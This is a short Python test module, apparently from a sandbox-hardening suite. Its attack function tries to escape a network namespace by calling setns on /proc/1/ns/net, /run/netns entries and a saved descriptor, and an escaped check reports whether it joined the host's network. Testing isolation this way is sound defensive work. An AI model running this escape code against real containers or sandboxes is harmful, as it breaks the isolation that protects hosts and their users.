"""Joins the host's network through namespace files and sockets that it can find, or makes its own
devices.

layer: seccomp
control: root in a throw-away net namespace goes back to the namespace that it came from
"""
CONTROL = "root"
CONTROL_SHELL = 'exec 9</proc/self/ns/net; exec unshare -n "$@"'


def attack(a):
    import glob
    before = os.readlink("/proc/self/ns/net")
    candidates = ["/proc/self/fd/9"]
    if inside():
        candidates += ["/proc/1/ns/net",
                       "/proc/self/ns/net"] + glob.glob("/run/netns/*") + glob.glob(
                           "/var/run/netns/*")
    for path in candidates:
        def join():
            syscall("setns", os.open(path, os.O_RDONLY), 0x40000000)
            if os.readlink("/proc/self/ns/net") != before:
                print("joined another network")
        attempt(join)


def escaped(s, r):
    return "joined another network" in r.out
